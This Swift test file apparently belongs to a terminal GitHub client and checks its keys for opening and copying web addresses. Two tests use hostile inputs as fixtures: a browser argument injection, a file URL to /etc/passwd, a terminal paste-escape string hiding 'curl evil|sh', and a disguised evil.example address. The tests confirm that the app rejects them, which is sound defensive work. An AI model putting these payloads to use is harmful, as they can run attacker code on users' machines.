import LotusModel
import MockScreen
import Terminal
import Testing
import ViewModels

@testable import Coordinators

/// Tests for the key that opens the web page of a row or a scene in the browser.
@MainActor @Suite(.timeLimit(.minutes(15)), .serialized)
struct PageKeyTests {
  @Test(
    arguments: [
      ("organizations octocat", "github", "https://github.com/github"),
      ("followers octocat", "mona", "https://github.com/mona"),
      ("gists mona", "no public gists", "https://gist.github.com/mona"),
      ("contributions octocat", "Less", "https://github.com/octocat?tab=overview&from=2026-11-02&to=2026-11-02"),
      ("emails", "old@", "https://github.com/settings/emails"),
      ("ssh-keys", "old desktop", "https://github.com/settings/keys"),
      ("links", "example.com", "https://example.com/octocat"),
      ("profile", "San Francisco", "https://github.com/octocat"),
      ("repository octocat/Hello-World", "stars", "https://github.com/octocat/Hello-World"),
      ("limits", "core", nil), ("contributions", "Less", nil),
    ] as [(String, String, String?)])
  func `The key opens the page of the selected row, or else of the scene`(
    place: String, text: String, address: String?
  ) async throws {
    let app = try await App().open(Route(text: place), until: text)
    try await app.type("o") { app.outside.pages == [address].compactMap { $0 } }
    #expect((app.mock.rows[19] == "No web page to open here") == (address == nil))
  }

  @Test(
    arguments: [
      ("issue octocat/Hello-World#1347", "octocat/Hello-World › #1347", "repository"),
      ("issues octocat/Hello-World", "octocat/Hello-World › open issues", "repository"),
      ("followers octocat", "octocat › followers", "owner"),
    ] as [(String, String, SafeText)])
  func `The key for the page before this one in the title is named after that page`(
    place: String, title: String, name: SafeText
  ) async throws {
    let app = try App()
    app.start(Route(text: place))
    try await app.wait(forTitle: title)
    #expect(app.command(name)?.keys == ["O"])
    app.cancel()
  }

  @Test func `The key for the owner says on a repository which key opens the owner's profile`() async throws {
    let app = try await App().open(Route(text: "repository octocat/Hello-World"), until: "stars")
    try await app.type("O", until: "Press p to open the profile of the owner")
    app.cancel()
  }

  @Test func `A row that leads to another scene opens the page of that scene`() async throws {
    let app = try await App().open(.profile(named: "octocat"), until: "San Francisco")
    app.mock.press("Down")
    try await app.type("o") { app.outside.pages == ["https://github.com/octocat?tab=followers"] }
  }

  @Test(arguments: ["--gpu-launcher=xterm", "file:///etc/passwd", "https://x/\\u001b[201~\\ncurl evil|sh\\n"])
  func `The page of a profile is on the server, whatever address a response contains`(address: String) async throws {
    let app = try await App(replacing: (#""html_url":"https://github.com/octocat""#, by: #""html_url":"\#(address)""#))
      .open(.profile(.user(try Login("octocat"))), until: "San Francisco")
    try await app.type("o") { app.outside.pages == ["https://github.com/octocat"] }
    try await app.type("y", until: "Copied https://github.com/octocat,")
    app.cancel()
  }

  @Test(
    arguments: ["repository octocat/Hello-World", "repositories octocat"],
    [
      ("yy", "https://github.com/octocat/Hello-World,"), ("ys", "git@github.com:octocat/Hello-World.git,"),
      ("yh", "https://github.com/octocat/Hello-World.git,"), ("y\r", "https://github.com/octocat/Hello-World,"),
    ])
  func `On a repository, y offers its web address and its addresses for cloning`(
    route: String, copy: (keys: String, address: String)
  ) async throws {
    let app = try App()
    app.start(Route(text: route))
    try await app.wait { app.hasSelection }
    try await app.type(copy.keys, until: "Copied \(copy.address)")
    try await app.end(by: "q")
  }

  @Test func `An address that is not one of a web page is not opened, and the footer says so`() async throws {
    let address = "https://github.com@evil.example/"
    let app = try await App(replacing: ("https://example.com/octocat", by: address)).open(
      .socialAccounts, until: "evil.example")
    try await app.type("o", until: "Not a plain http or https URL, so not opened: https://github.com@")
    try await app.type("y", until: "Copied \(address)")
    #expect(app.outside.pages.isEmpty)
    app.cancel()
  }

  @Test func `A text with control characters is not copied, and the footer says so`() async throws {
    let app = try await App(
      replacing: ("https://example.com/octocat", by: #"https://x.example/\u001b[201~\ncurl evil|sh\n"#)
    ).open(.socialAccounts, until: "x.example")
    try await app.type("y", until: "Not copied, because of invisible characters in: https")
    app.cancel()
  }
}
